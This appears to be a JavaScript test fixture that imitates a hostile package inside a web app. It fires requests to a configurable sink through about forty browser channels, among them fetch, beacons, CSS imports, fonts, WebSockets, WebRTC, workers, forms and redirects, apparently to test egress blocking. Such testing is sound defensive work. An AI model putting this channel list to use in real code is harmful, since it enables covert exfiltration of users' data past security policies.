/**
 * What a hostile package inside the app would do: tries one way out after the other, each to an address
 * of its own at the sink. Loaded as a file of the app's own origin. `?sink=`, `?socket=` (counts
 * connections), `?stun=` and `?quic=` (UDP ports) say where to; `?only=` names one way that leaves the page.
 */
const asked = new URL(document.currentScript.src).searchParams;
const SINK = asked.get('sink');
const HOME = new URL('.', document.currentScript.src).href;
const to = (way) => `${SINK}/${way}`;

/** An element with these attributes, in the page. */
function add(name, attributes, where = document.body) {
  const element = document.createElement(name);
  for (const [attribute, value] of Object.entries(attributes)) element.setAttribute(attribute, value);
  where.append(element);
  return element;
}

function addStyle(rules) {
  const style = document.createElement('style');
  style.textContent = rules;
  document.head.append(style);
  // Where the policy takes no style elements: by the object model, which it does not forbid.
  const sheet = new CSSStyleSheet();
  sheet.replaceSync(rules.replace(/@import[^;]*;/, ''));
  document.adoptedStyleSheets = [...document.adoptedStyleSheets, sheet];
}

function linkTo(rel, way, more = {}) {
  add('link', { rel, href: to(way), ...more }, document.head);
}

const WAYS = {
  fetch: () => fetch(to('fetch'), { mode: 'no-cors' }),
  'fetch-keepalive': () =>
    fetch(to('fetch-keepalive'), { mode: 'no-cors', keepalive: true, method: 'POST', body: 'x' }),
  xhr: () => {
    const request = new XMLHttpRequest();
    request.open('GET', to('xhr'));
    request.send();
  },
  beacon: () => navigator.sendBeacon(to('beacon'), 'x'),
  image: () => (new Image().src = to('image')),
  'image-set': () => add('img', { srcset: `${to('image-set')} 1x` }),
  background: () => add('div', { style: `background: url(${to('background')}); width: 9px; height: 9px` }),
  import: () => addStyle(`@import url(${to('import')});`),
  'style-rule': () => {
    addStyle(`.hostile { background-image: url(${to('style-rule')}) }`);
    add('div', { class: 'hostile' }).textContent = 'x';
  },
  stylesheet: () => linkTo('stylesheet', 'stylesheet'),
  font: () => new FontFace('hostile', `url(${to('font')})`).load(),
  socket: () => new WebSocket(to('socket').replace('http', 'ws')),
  events: () => new EventSource(to('events')),
  stun: async () => {
    const peer = new RTCPeerConnection({ iceServers: [{ urls: `stun:127.0.0.1:${asked.get('stun')}` }] });
    peer.createDataChannel('x');
    await peer.setLocalDescription(await peer.createOffer());
  },
  webtransport: () => new WebTransport(`https://127.0.0.1:${asked.get('quic')}/`),
  ping: () => add('a', { href: '#/data', ping: to('ping') }).click(),
  prefetch: () => linkTo('prefetch', 'prefetch'),
  preload: () => linkTo('preload', 'preload', { as: 'image' }),
  modulepreload: () => linkTo('modulepreload', 'modulepreload'),
  preconnect: () => add('link', { rel: 'preconnect', href: `http://127.0.0.1:${asked.get('socket')}` }, document.head),
  icon: () => linkTo('icon', 'icon'),
  frame: () => add('iframe', { src: to('frame') }),
  object: () => add('object', { data: to('object') }),
  embed: () => add('embed', { src: to('embed') }),
  video: () => add('video', { src: to('video'), preload: 'auto' }),
  poster: () => add('video', { poster: to('poster') }),
  audio: () => add('audio', { src: to('audio'), preload: 'auto' }),
  track: () => {
    const video = add('video', { crossorigin: '' });
    add('track', { src: to('track'), default: '' }, video).track.mode = 'showing';
  },
  svg: () => {
    const svg = document.body.appendChild(document.createElementNS('http://www.w3.org/2000/svg', 'svg'));
    svg.appendChild(document.createElementNS(svg.namespaceURI, 'image')).setAttribute('href', to('svg'));
  },
  'input-image': () => add('input', { type: 'image', src: to('input-image') }),
  script: () => (document.head.appendChild(document.createElement('script')).src = to('script')),
  'dynamic-import': () => import(to('dynamic-import')),
  'worker-fetch': () => new Worker(`${HOME}hostile-thread.js?as=worker&sink=${SINK}`),
  'shared-worker': () => new SharedWorker(`${HOME}hostile-thread.js?as=shared&sink=${SINK}`),
  'service-worker': () =>
    navigator.serviceWorker.register(`${HOME}hostile-thread.js?as=service&sink=${SINK}`, { scope: `${HOME}hostile/` }),
  'fetch-later': () => fetchLater(to('fetch-later'), { activateAfter: 0 }),
  speculation: () => {
    const rules = add('script', { type: 'speculationrules' }, document.head);
    rules.textContent = JSON.stringify({ prefetch: [{ source: 'list', urls: [to('speculation')] }] });
  },
  popup: () => open(to('popup')),
  click: () => add('a', { href: to('click'), target: '_blank', rel: 'opener' }).click(),
  'form-aside': () => add('form', { action: to('form-aside'), method: 'post', target: 'aside' }).submit(),
  location: () => (location.href = to('location')),
  refresh: () => add('meta', { 'http-equiv': 'refresh', content: `0; url=${to('refresh')}` }, document.head),
  'form-post': () => add('form', { action: to('form-post'), method: 'post' }).submit(),
};
/** These take the page away, and are tried alone. */
const LEAVING = ['location', 'refresh', 'form-post'];

const only = asked.get('only');
for (const [way, go] of Object.entries(WAYS)) {
  if (only === null ? LEAVING.includes(way) : way !== only) continue;
  try {
    Promise.resolve(go()).catch(() => undefined);
  } catch {
    // Refused; the next one.
  }
}
